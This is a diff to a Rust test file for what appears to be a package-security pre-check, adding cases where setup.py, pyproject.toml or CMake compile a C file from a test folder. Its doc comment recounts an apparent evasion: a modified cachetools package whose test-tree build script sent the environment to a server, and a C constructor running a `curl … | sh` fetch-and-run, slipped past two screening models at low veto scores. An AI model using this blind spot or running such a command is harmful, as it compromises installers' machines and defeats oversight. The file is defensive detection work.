@@ -1259,17 +1259,21 @@ fn a_cmake_build_script_is_read_as_code() {
     assert_reason(&o, &r, (0, "precheck-harmless"));
 }
 
-/// A build runs what its build script names: a test folder's build script
-/// (`add_subdirectory`, Meson's `subdir`, a `.cmake` include, or the folder
-/// a `pyproject.toml` gives scikit-build-core), and a file it includes
-/// whatever its name. Such a script is code wherever it lies, but both
-/// models read a test tree's path as a test's, and a document as prose:
-/// cachetools so changed, its test folder's build script sending the
-/// environment to a server, was allowed at veto 0.0013, the same script in
-/// `src/ext/` vetoed at 0.0030 (session 31). Whatever the script holds, the
-/// pre-check alone no longer allows it, and the note names the script and
-/// what it runs; a root script running a folder that is not a test tree,
-/// or a test tree's script that nothing runs, adds no note.
+/// A build runs what its build script or manifest names: a test folder's
+/// build script (`add_subdirectory`, Meson's `subdir`, a `.cmake` include,
+/// or the folder a `pyproject.toml` gives scikit-build-core), a test
+/// tree's source it compiles into the package (`Extension(…,
+/// sources=['tests/data/speed.c'])`, a glob, pyproject's `ext-modules`, a
+/// CMake target), and a file it includes whatever its name. Both models
+/// read a test tree's path as a test's, and a document as prose:
+/// cachetools so changed was allowed, with a test folder's build script
+/// sending the environment to a server (veto 0.0013; 0.0030 in `src/ext/`)
+/// or a test tree's C file whose constructor runs `system("curl … | sh")`
+/// (0.0013; 0.19 in `src/`) (session 31). Whatever those files hold, the
+/// pre-check alone no longer allows the package, and the note names the
+/// file that runs each and what it runs; a folder or source that is not
+/// in a test tree, or a test tree's script that nothing runs, adds no
+/// note.
 #[test]
 fn what_a_build_script_runs_is_judged_as_code() {
     /// Members added to is-number.
@@ -1285,11 +1289,23 @@ fn what_a_build_script_runs_is_judged_as_code() {
     let src = top("add_subdirectory(src/ext)");
     let meson = "project('addon', 'c')\nsubdir('test')\n";
     let skb = "[tool.scikit-build]\ncmake.source-dir = \"test/cmake\"\n";
+    // A test tree's C file compiled into the package: named by setup.py,
+    // by a glob, by pyproject.toml's ext-modules, or by a CMake target.
+    let c_source: &[u8] = b"int speed(void) { return 1; }\n";
+    let extension = |sources: &str| {
+        format!("from setuptools import setup, Extension\nsetup(ext_modules=[Extension('m', sources={sources})])\n")
+    };
+    let setup = extension("['test/data/speed.c']");
+    let glob = extension("glob.glob('test/data/*.c')");
+    let src_setup = extension("['src/speed.c']");
+    let toml_ext =
+        "[tool.setuptools]\next-modules = [{name = \"m\", sources = [\"test/data/speed.c\"]}]\n";
+    let library = top("add_library(m MODULE test/data/speed.c)");
     let blocked: &[(&str, Added, &str)] = &[
         (
             "sub.tgz",
             &[("package/CMakeLists.txt", sub.as_bytes()), ("package/test/cmake/CMakeLists.txt", script)],
-            "the package's build runs 1 build script(s) in a test tree (package/CMakeLists.txt -> package/test/cmake/CMakeLists.txt)",
+            "the package's build runs or compiles 1 file(s) in a test tree (package/CMakeLists.txt -> package/test/cmake/CMakeLists.txt)",
         ),
         (
             "inc.tgz",
@@ -1305,6 +1321,26 @@ fn what_a_build_script_runs_is_judged_as_code() {
             "skb.tgz",
             &[("package/pyproject.toml", skb.as_bytes()), ("package/test/cmake/CMakeLists.txt", script)],
             "(package/pyproject.toml -> package/test/cmake/CMakeLists.txt)",
+        ),
+        (
+            "setup.tgz",
+            &[("package/setup.py", setup.as_bytes()), ("package/test/data/speed.c", c_source)],
+            "(package/setup.py -> package/test/data/speed.c)",
+        ),
+        (
+            "glob.tgz",
+            &[("package/setup.py", glob.as_bytes()), ("package/test/data/speed.c", c_source)],
+            "(package/setup.py -> package/test/data/speed.c)",
+        ),
+        (
+            "toml.tgz",
+            &[("package/pyproject.toml", toml_ext.as_bytes()), ("package/test/data/speed.c", c_source)],
+            "(package/pyproject.toml -> package/test/data/speed.c)",
+        ),
+        (
+            "library.tgz",
+            &[("package/CMakeLists.txt", library.as_bytes()), ("package/test/data/speed.c", c_source)],
+            "(package/CMakeLists.txt -> package/test/data/speed.c)",
         ),
         (
             "doc.tgz",
@@ -1330,6 +1366,13 @@ fn what_a_build_script_runs_is_judged_as_code() {
         (
             "unrun.tgz",
             &[("package/test/cmake/CMakeLists.txt", script)],
+        ),
+        (
+            "src-c.tgz",
+            &[
+                ("package/setup.py", src_setup.as_bytes()),
+                ("package/src/speed.c", c_source),
+            ],
         ),
     ];
     for (name, added) in allowed {
